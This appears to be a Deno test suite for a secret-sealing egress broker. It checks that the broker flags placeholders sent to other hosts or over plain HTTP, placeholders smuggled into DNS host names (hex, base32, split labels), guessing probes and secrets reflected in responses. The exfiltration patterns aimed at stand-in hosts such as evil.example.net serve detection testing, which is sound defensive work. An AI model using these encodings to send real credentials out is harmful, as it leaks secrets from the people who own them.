/** Attempts to learn a secret, as the broker sees them. */
import { assert, assertEquals } from "@std/assert";
import { NEIGHBOURS_MAX, probeWatch } from "../../src/egress/probing.ts";
import { parseEgressPolicy } from "../../src/egress/policy.ts";
import { type PreparedRequest, prepareRequest } from "../../src/egress/request_check.ts";
import { sealSecrets } from "../../src/egress/secrets.ts";
import { isInHostName, piecesOf } from "../../src/egress/secret_names.ts";
import { placeholderFor } from "../../src/keys/placeholder.ts";
import { get } from "./harness.ts";

const PLACEHOLDER = "ghp_x7KqPz29LmVb41NcRt68YwHd";
const VALUE = "ghp_T4r3Ue7V9aL2uE5x8Y1zQ6wE0";

function prepared(url: string, change: Parameters<typeof get>[1] = {}): PreparedRequest {
  const request = prepareRequest(get(url, change));
  if (request.kind === "error") throw new Error(request.message);
  return request;
}

function sealed() {
  const policy = parseEgressPolicy([], ["*"]);
  const secret = {
    name: "API_KEY",
    placeholder: PLACEHOLDER,
    value: VALUE,
    hosts: ["api.example.com"],
    isWithdrawn: false,
  };
  return { secret, secrets: sealSecrets([secret], policy)! };
}

async function waysOf(
  url: string,
  change: Parameters<typeof get>[1] = {},
  verify = true,
): Promise<string[]> {
  const filled = await sealed().secrets.fill(prepared(url, change), verify);
  return "kind" in filled ? [filled.message] : filled.attempts.map(({ way }) => way);
}

const KEY: { headers: [string, string][] } = { headers: [["X-Key", PLACEHOLDER]] };

Deno.test("each attempt is told by its way", async () => {
  assertEquals(await waysOf("https://api.example.com/", KEY), []);
  assertEquals(await waysOf("https://evil.example.net/", KEY), ["elsewhere"]);
  assertEquals(await waysOf("http://api.example.com/", KEY), ["unprotected"]);
  assertEquals(await waysOf("https://api.example.com/", KEY, false), ["unprotected"]);
  assertEquals(await waysOf("https://evil.example.net/"), []);
});

const random = PLACEHOLDER.slice(4);
const bytes = new TextEncoder().encode(random);
const HEX = bytes.toHex();
/** Base32, as DNS tunnels write it. */
const BASE32 = [...bytes].map((byte) => byte.toString(2).padStart(8, "0")).join("")
  .match(/.{5}/g)!.map((five) => "abcdefghijklmnopqrstuvwxyz234567"[parseInt(five, 2)]).join("");

const NAMES: [how: string, host: string][] = [
  ["as it is", `${random}.evil.test`],
  ["with its beginning", `${PLACEHOLDER.replace("_", "-")}.evil.test`],
  ["in two labels", `${random.slice(0, 12)}.${random.slice(12)}.evil.test`],
  ["in part", `${random.slice(5, 16)}.evil.test`],
  ["with hyphens", `${[...random].join("-")}.evil.test`],
  ["in hexadecimal", `${HEX.slice(0, 40)}.evil.test`],
  ["in base32", `${BASE32.slice(0, 30)}.evil.test`],
];

for (const [how, host] of NAMES) {
  Deno.test(`a host name with a placeholder ${how} is seen`, async () => {
    assertEquals(isInHostName(host.toLowerCase(), piecesOf(PLACEHOLDER)), true);
    assertEquals((await waysOf(`https://${host}/`)).includes("host_name"), true);
  });
}

Deno.test("ordinary host names have no piece of a placeholder", () => {
  const pieces = piecesOf(PLACEHOLDER);
  for (const host of ["api.example.com", "ghp.example.com", "a.b", "x7kqpz29l.example.com"]) {
    assertEquals(isInHostName(host, pieces), false, host);
  }
});

Deno.test("guesses beside a placeholder are told once there are many", async () => {
  const { secrets } = sealed();
  const ways = async (text: string) => {
    const filled = await secrets.fill(prepared(`https://api.example.com/search?q=${text}`), true);
    return "kind" in filled ? [] : filled.attempts.map(({ way }) => way);
  };
  for (let guess = 0; guess < NEIGHBOURS_MAX; guess++) {
    assertEquals(await ways(`${PLACEHOLDER}${guess}`), [], `${guess}`);
  }
  assertEquals(await ways(`${PLACEHOLDER}${NEIGHBOURS_MAX}`), ["probing"]);
  assertEquals(await ways(`abc${PLACEHOLDER}`), ["probing"]);
  // One of before is no new guess, and another request is another kind.
  assertEquals(await ways(`${PLACEHOLDER}1`), []);
  assertEquals(await ways(`${PLACEHOLDER}1&page=2`), []);
});

Deno.test("requests with a key as services take it are no guesses, however many", () => {
  const watch = probeWatch();
  for (let page = 0; page < 500; page++) {
    const requests = [
      prepared(`https://api.example.com/items?key=${PLACEHOLDER}&page=${page}`),
      prepared(`https://api.example.com/bot${PLACEHOLDER}/send?text=${page}`),
      prepared(`https://api.example.com/items/${page}`, {
        headers: [["Authorization", `Bearer ${PLACEHOLDER}`]],
      }),
      prepared("https://api.example.com/items", {
        method: "POST",
        headers: [["Content-Type", "application/json"]],
        body: new TextEncoder().encode(JSON.stringify({ key: PLACEHOLDER, page })),
      }),
    ];
    for (const request of requests) assertEquals(watch.saw(request, PLACEHOLDER), false);
  }
});

Deno.test("a secret that was withdrawn is sent no more, and the code hears why", async () => {
  const { secret, secrets } = sealed();
  secret.isWithdrawn = true;
  const refused = await secrets.fill(prepared("https://api.example.com/", KEY), true);
  assertEquals("kind" in refused && [refused.error, refused.message], [
    "refused",
    "The value of API_KEY was removed or replaced. Begin another session",
  ]);
  const other = await secrets.fill(prepared("https://api.example.com/"), true);
  assertEquals("kind" in other, false);
});

Deno.test("an answer that shows a secret says which it was", async () => {
  const { secrets } = sealed();
  const body = new TextEncoder().encode(`{"key": "${VALUE}"}`);
  const answer = { kind: "response" as const, status: 200, reason: "", headers: [], body };
  const { reflected } = await secrets.clean(prepared("https://api.example.com/"), answer);
  assertEquals(reflected, ["API_KEY"]);
});

Deno.test("many secrets are looked for in one search, in which others have their turn", async () => {
  const secrets = Array.from({ length: 10 }, (_, at) => {
    const value = `key${at}Qm8Zt4Lw7Xb2Nc9Ks5Wd3`;
    return {
      name: `KEY_${at}`,
      placeholder: placeholderFor(value),
      value,
      hosts: ["api.example.com"],
    };
  });
  const sealed = sealSecrets(secrets, parseEgressPolicy([], ["*"]))!;
  const text = secrets.map(({ placeholder }) => btoa(placeholder)).join("<br>") +
    "%2541 &#65;".repeat(100_000);
  let turns = 0;
  const timer = setInterval(() => turns++);
  const filled = await sealed.fill(
    prepared("https://evil.example.net/", {
      method: "POST",
      body: new TextEncoder().encode(text),
    }),
    true,
  );
  clearInterval(timer);
  assert(!("kind" in filled));
  assertEquals(
    filled.attempts,
    secrets.map(({ name }) => ({ name, way: "elsewhere" as const })),
  );
  assert(turns > 2, `${turns}`);
});
